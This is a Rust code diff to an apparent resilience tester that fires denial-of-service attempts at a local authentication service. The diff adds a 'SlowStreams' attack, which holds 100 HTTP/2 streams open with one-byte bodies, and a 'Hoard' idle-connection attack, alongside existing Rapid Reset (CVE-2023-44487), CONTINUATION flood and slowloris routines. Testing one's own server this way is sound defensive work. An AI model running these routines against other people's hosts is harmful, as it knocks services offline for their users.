@@ -19,8 +19,11 @@ use super::Protocol;
 /// How long an attempt goes on at the most. Only against a host without limits.
 const PATIENCE: Duration = Duration::from_secs(30);
 
+/// Requests of one connection at the same time: as many as a host takes by default.
+const STREAMS: u32 = 100;
+
 /// Between two drops of something slow.
-const DRIP: Duration = Duration::from_millis(20);
+const DRIP: Duration = Duration::from_millis(100);
 
 /// One kind of attempt.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -31,6 +34,8 @@ pub enum Attack {
     SlowHeaders,
     /// A body that comes a byte at a time.
     SlowBody,
+    /// A hundred requests on one HTTP/2 connection, of whose bodies a byte comes.
+    SlowStreams,
     /// HTTP/2 streams that are reset as soon as they are opened (CVE-2023-44487).
     RapidReset,
     /// HTTP/2 header blocks without an end (CVE-2024-27316).
@@ -39,6 +44,8 @@ pub enum Attack {
     UnfinishedHead,
     /// A socket that says nothing at all.
     ConnectionFlood,
+    /// A connection that is made and kept, with nothing on it but a first answer.
+    Hoard,
 }
 
 /// How an attempt ended.
@@ -55,6 +62,7 @@ pub enum Ended {
 }
 
 const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+const DATA: u8 = 0;
 const HEADERS: u8 = 1;
 const RST_STREAM: u8 = 3;
 const SETTINGS: u8 = 4;
@@ -67,14 +75,16 @@ const END_HEADERS: u8 = 4;
 
 impl Attack {
     /// All of them.
-    pub const ALL: [Self; 7] = [
+    pub const ALL: [Self; 9] = [
         Self::SlowHandshake,
         Self::SlowHeaders,
         Self::SlowBody,
+        Self::SlowStreams,
         Self::RapidReset,
         Self::HeaderFlood,
         Self::UnfinishedHead,
         Self::ConnectionFlood,
+        Self::Hoard,
     ];
 
     /// Try it once, to its end, against the host at `address` as a client with this TLS.
@@ -83,6 +93,10 @@ impl Attack {
             match self {
                 Self::SlowHandshake => silent(address, &[22, 3, 1, 1, 0, 1, 0]).await,
                 Self::ConnectionFlood => silent(address, &[]).await,
+                Self::Hoard => {
+                    let head = b"GET /.well-known/jwks.json HTTP/1.1\r\nhost: localhost\r\n\r\n";
+                    drip(address, tls, Protocol::Http1, head, b"").await
+                }
                 Self::SlowHeaders => {
                     let head =
                         b"GET /.well-known/jwks.json HTTP/1.1\r\nhost: localhost\r\nx-slow: ";
@@ -92,6 +106,7 @@ impl Attack {
                     let head = b"POST /v1/authentications HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 60000\r\n\r\n{";
                     drip(address, tls, Protocol::Http1, head, b"a").await
                 }
+                Self::SlowStreams => slow_streams(address, tls).await,
                 Self::RapidReset => {
                     let frames = (0..20_000_u32).map(|number| {
                         let stream = 2 * number + 1;
@@ -166,6 +181,38 @@ async fn drip(
         Some(status) => Ended::Answered(status.parse().expect("a status")),
         None => Ended::Closed,
     }
+}
+
+/// As many requests as one connection carries, until each has its answer.
+async fn slow_streams(address: SocketAddr, tls: &ClientConfig) -> Ended {
+    let Some(stream) = connect(address, tls, Protocol::Http2).await else {
+        return Ended::Closed;
+    };
+    let (mut reads, mut writes) = tokio::io::split(stream);
+    let mut bytes = PREFACE.to_vec();
+    bytes.extend(frame(SETTINGS, 0, 0, &[]));
+    for number in 0..STREAMS {
+        let stream = 2 * number + 1;
+        bytes.extend(frame(HEADERS, END_HEADERS, stream, &begin()));
+        bytes.extend(frame(DATA, 0, stream, b"{"));
+    }
+    if writes.write_all(&bytes).await.is_err() || writes.flush().await.is_err() {
+        return Ended::Closed;
+    }
+    let mut answered = 0;
+    while answered < STREAMS {
+        let mut head = [0; 9];
+        if reads.read_exact(&mut head).await.is_err() {
+            return Ended::Closed;
+        }
+        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
+        let mut payload = vec![0; length];
+        if reads.read_exact(&mut payload).await.is_err() || head[3] == GOAWAY {
+            return Ended::Closed;
+        }
+        answered += u32::from(head[3] == HEADERS);
+    }
+    Ended::Endured
 }
 
 /// Frames, as fast as the host takes them.
@@ -245,6 +292,16 @@ fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
 fn request() -> Vec<u8> {
     let path = b"/.well-known/jwks.json";
     let mut block = vec![0x82, 0x87, 0x04, 22];
+    block.extend(path);
+    block.extend([0x01, 9]);
+    block.extend(b"localhost");
+    block
+}
+
+/// `POST /v1/authentications`.
+fn begin() -> Vec<u8> {
+    let path = b"/v1/authentications";
+    let mut block = vec![0x83, 0x87, 0x04, 19];
     block.extend(path);
     block.extend([0x01, 9]);
     block.extend(b"localhost");
